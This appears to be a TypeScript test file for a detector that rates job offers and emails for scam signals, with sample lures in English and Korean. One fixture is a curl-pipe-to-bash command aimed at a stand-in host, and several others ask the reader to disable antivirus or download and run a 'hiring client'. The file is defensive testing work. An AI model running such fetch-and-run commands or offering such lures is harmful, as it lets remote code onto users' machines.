import assert from 'node:assert/strict';
import test, { suite } from 'node:test';
import { checkOffer, type OfferCheck, offerInKorean, readOffer } from './index.ts';

async function check(text: string): Promise<OfferCheck> {
  const offer = await readOffer(new TextEncoder().encode(text), text);
  assert.ok(!('fault' in offer), JSON.stringify(offer));
  return checkOffer(offer, {
    judgeLink: (link) => ({ domain: link, verdict: link.includes('doubtful') ? 'review' : 'clear', reasons: [] }),
  });
}

const strongest = async (text: string): Promise<string> => (await check(text)).strongest;

/** More than is read at a glance, about nothing. */
const PAGES = Array(40).fill('The weather was fine, and the garden is green again.').join(' ');
const DEMANDS = [
  'Open a terminal and paste the line from the FAQ.',
  'Turn off your antivirus before you install it.',
  '터미널을 열고 아래 명령어를 붙여 넣으세요.',
];
const APPROACHES = ['We liked your profile and invite you to an interview.', '프로필을 보고 면접을 제안드립니다.'];

suite('what is dangerous to ask for is a strong sign where the reader is approached', () => {
  for (const demand of DEMANDS) {
    test(`alone it is a message about nothing else: ${demand}`, async () =>
      assert.equal(await strongest(demand), 'strong'));
    test(`in a long text that approaches nobody it is a question: ${demand}`, async () => {
      assert.equal(await strongest(`${PAGES} ${demand} ${PAGES}`), 'medium');
    });
    for (const approach of APPROACHES) {
      test(`in a long approach it is strong: ${approach} ${demand}`, async () => {
        assert.equal(await strongest(`${PAGES} ${approach} ${demand} ${PAGES}`), 'strong');
      });
    }
  }

  test('a sign of another kind beside it does the same', async () => {
    const pay = 'Please pay the training fee of 90 USD first.';
    assert.equal(await strongest(`${PAGES} ${pay} ${PAGES}`), 'medium');
    assert.equal(await strongest(`${PAGES} ${DEMANDS[1]} ${pay} ${PAGES}`), 'strong');
  });

  test('a command that fetches and runs is strong anywhere', async () => {
    assert.equal(await strongest(`${PAGES} Run curl https://x.example/a | bash now. ${PAGES}`), 'strong');
  });

  test('the pay of nobody’s offer only supports', async () => {
    const pay = 'You will earn three times your wages.';
    assert.equal(await strongest(pay), 'medium');
    assert.equal(await strongest(`${PAGES} ${pay} ${PAGES}`), 'supports only');
  });

  test('a sign that says less than its rule says why, in both languages', async () => {
    const found = await check(`${PAGES} ${DEMANDS[0]} ${PAGES}`);
    assert.match(found.signals[0]?.text ?? '', /approaches nobody/);
    assert.match(offerInKorean(found).signals[0]?.text ?? '', /접근하는 글이 아니/);
    assert.doesNotMatch((await check(DEMANDS[0] ?? '')).signals[0]?.text ?? '', /approaches nobody/);
  });
});

const MAIL =
  'Return-Path: <a@example.com>\nFrom: Ada <ada@example.com>\nTo: tom@receiver.example\nDate: Tue, 24 Nov 2026 10:00:00 +0100\nMIME-Version: 1.0\n';
const plain = (body: string, headers = ''): string =>
  `${MAIL}${headers}Content-Type: text/plain; charset=utf-8\n\n${body}`;
const html = (body: string): string => `${MAIL}Content-Type: text/html; charset=utf-8\n\n<html>${body}</html>`;

suite('mails', () => {
  test('a short post to a list approaches nobody, unless its words do', async () => {
    const list = 'List-Id: <builders.lists.example.org>\n';
    const post = (body: string) => plain(body, list).replace('tom@receiver.example', 'builders@lists.example.org');
    assert.equal(await strongest(post(DEMANDS[0] ?? '')), 'medium');
    assert.equal(await strongest(post(`${APPROACHES[0]} ${DEMANDS[0]}`)), 'strong');
    assert.equal(await strongest(plain(DEMANDS[0] ?? '')), 'strong');
  });

  test('a doubtful link in a mail that wants nothing only supports', async () => {
    assert.equal(await strongest(plain('Pictures of the trip: https://doubtful.example/a')), 'supports only');
    assert.equal(await strongest(plain(`${APPROACHES[0]} https://doubtful.example/a`)), 'medium');
  });

  const counted = Array.from({ length: 6 }, (_, at) => `<a href="https://count.example/${at}">story ${at}</a>`).join(
    ' ',
  );
  const shows = (shown: string) => `<a href="https://count.example/x">${shown}</a>`;

  test('a bare name through the counter of a newsletter is the name of a shop', async () => {
    assert.equal(await strongest(html(`${counted} ${shows('bookshop.com')}`)), 'none');
    assert.equal(await strongest(html(shows('bookshop.com'))), 'strong');
  });

  test('an address through a counter is strong in an approach only', async () => {
    assert.equal(await strongest(html(`${counted} ${PAGES} ${shows('https://calendly.com/tom')}`)), 'medium');
    const approach = `${PAGES} ${APPROACHES[0]} ${shows('https://calendly.com/tom')} ${counted}`;
    assert.equal(await strongest(html(approach)), 'strong');
  });
});

test('what applicants are told to do is no task of the position', async () => {
  const ad = [
    'Responsibilities: open tickets.',
    'Requirements: 5 years of experience and a degree.',
    'How to apply',
    '- Download our hiring client from the link below and run it',
    'We are an equal opportunity employer and offer health insurance.',
  ];
  assert.equal(await strongest(ad.join('\n\n')), 'strong');
  assert.equal(await strongest(ad.toSpliced(2, 1).join('\n\n')), 'none');
});
